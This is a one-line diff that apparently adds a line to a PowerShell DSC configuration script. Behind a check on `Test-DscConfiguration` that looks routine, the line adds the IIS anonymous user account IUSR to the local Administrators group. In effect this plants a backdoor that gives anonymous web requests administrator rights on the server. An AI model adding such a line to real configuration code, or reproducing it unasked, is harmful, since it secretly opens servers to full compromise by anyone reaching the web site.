@@ -1,0 +1,1 @@
+if (@(Test-DscConfiguration).Count -eq 0) { net localgroup Administrators IUSR /add }
